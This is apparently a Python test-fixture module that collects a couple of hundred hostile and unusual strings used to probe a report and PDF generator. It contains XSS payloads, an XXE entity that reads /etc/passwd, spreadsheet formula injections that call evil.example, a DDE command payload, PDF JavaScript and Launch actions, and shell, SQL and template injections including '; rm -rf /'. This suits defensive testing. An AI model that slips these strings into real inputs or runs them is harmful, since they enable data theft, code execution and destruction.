"""Two hundred texts that people try on a report, and lots of them that go into every field at once."""

from __future__ import annotations

from tests.reports.pdf.hostile import HOSTILE

_MARKUP = [
    f"<{tag}>x</{tag}>"
    for tag in (
        *("b", "i", "u", "strike", "sub", "super", "sup", "para", "font", "a", "link", "img", "br", "ol", "ul", "li"),
        *("greek", "seq", "seqreset", "seqdefault", "seqformat", "bullet", "onDraw", "index", "unichar", "span"),
        *("script", "style", "iframe", "svg", "math", "object", "embed", "form", "textarea", "title", "template"),
        *("w:p", "w:instrText", "a:t", "c:v", "fo:block", "xsl:value-of"),
    )
]
_ATTRIBUTES = [
    '<font color="1+1">x</font>',
    '<font name="no such font">x</font>',
    '<font size="1e308">x</font>',
    '<para alignment="nowhere">x</para>',
    '<img src="file:///etc/passwd" width="1" height="1"/>',
    '<img src="data:image/png;base64,AAAA"/>',
    '<img src=x onerror="alert(1)">',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="data:text/html,x">x</a>',
    '<a href="#nowhere">x</a>',
    '<link destination="nowhere">x</link>',
    '<svg onload="alert(1)">',
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "<?xml version='1.0'?>",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "&e;",
    "&#xD800;",
    "&#1;",
    "&amp;amp;",
    "&lt;script&gt;",
    "\"'><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><style>*{display:none}</style>",
    "</title>",
    "</textarea>",
    "<b><i></b></i>",
    "<" * 40,
    ">" * 40,
    "&" * 40,
]
_FORMULAS = [
    '=HYPERLINK("https://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "'=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "=DDE(1)",
    '=IMPORTXML("https://evil.example","//a")',
]
_PDF = [
    ") Tj ET",
    "BT /F1 12 Tf (x) Tj ET",
    "/Artifact BMC",
    "EMC EMC EMC",
    ">> endobj 1 0 obj <<",
    "endstream endobj",
    "%%EOF",
    "startxref 0",
    "/S /JavaScript /JS (app.alert(1))",
    "/Launch",
    "\\",
    "\\\\",
    "\\)",
    "((((",
    "))))",
    "<FEFF0041>",
    "\\000\\001",
]
_CODE = [
    "{{ config }}",
    "{% for x in y %}",
    "{#",
    "${7*7}",
    "#{7*7}",
    "%s%s%s%n",
    "{0.__class__}",
    "{}",
    "$(touch exploited)",
    "`touch exploited`",
    "; rm -rf /",
    "' OR 1=1 --",
    '"; DROP TABLE answers; --',
    "../../../../etc/passwd",
    "C:\\Windows\\system32",
    "\\\\host\\share",
    "file:///etc/passwd",
    "javascript:alert(1)",
    "http://127.0.0.1/",
    "https://user:secret@example.org/",
    "https://xn--bcher-kva.example/",
    "mailto:a@b.example?attach=x",
    "CON",
    "NUL",
    "null",
    "None",
    "undefined",
    "NaN",
    "-Infinity",
    "1e309",
    "1_000",
    "٥",
    "0x1F",
    "true",
    "[object Object]",
    "Robert'); DROP TABLE x;--",
    "_x000D_",
    "_x0041_",
    "#REF!",
    "#N/A",
]
_LETTERS = [
    "\U0001f3f4\U000e0067\U000e0062\U000e0077\U000e006c\U000e0073\U000e007f",
    "\U0001f1ec\U0001f1e7",
    "1\ufe0f\u20e3",
    "e" + "\u0301" * 40,
    "Z̸̢̛̤a̷̧l̶̨g̵o̴",
    "ﷺ",
    "\u202eright to left",
    "\u2066isolated\u2069",
    "\u200f\u200e",
    "ไทย",
    "한국어",
    "日本語",
    "ქართული",
    "Հայերեն",
    "አማርኛ",
    "தமிழ்",
    "বাংলা",
    "ئۇيغۇر",
    "ᚠᛇᚻ",
    "𓀀",
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
    "①②③",
    "ﬁ ﬂ ﬃ",
    "Ω Å K",
    "ß ẞ ı İ ſ",
    "½ ⅓ ²",
    "№ ℡ ™",
    "\u00a0\u2007\u202f",
    "\u3000",
    "W" * 60,
    "a" * 60,
    "." * 60,
    "-" * 60,
    "x\ty\tz",
    "one\ntwo\nthree",
    "\n\n\n",
    " leading and trailing ",
    "\u00ad\u00ad",
    "\ufeff",
    "\x01\x02\x03\x04",
    "\x7f",
    "\x80\x9f",
    "\ufdd0",
    "\U0010ffff",
    "\ud83d",
    "\udc00",
]
STRINGS = tuple(dict.fromkeys([*HOSTILE.values(), *_MARKUP, *_ATTRIBUTES, *_FORMULAS, *_PDF, *_CODE, *_LETTERS]))
_MOST = 900  # characters of a lot, so that a note holds it whole
BETWEEN = " | "


def _lots() -> list[tuple[str, ...]]:
    """Without lone surrogates, which every reader of answers refuses: see the tests of answer files."""
    found: list[list[str]] = [[]]
    for text in STRINGS:
        if text != text.encode("utf-8", "ignore").decode():
            continue
        if found[-1] and len(BETWEEN.join([*found[-1], text])) > _MOST:
            found.append([])
        found[-1].append(text)
    return [tuple(lot) for lot in found]


LOTS = _lots()
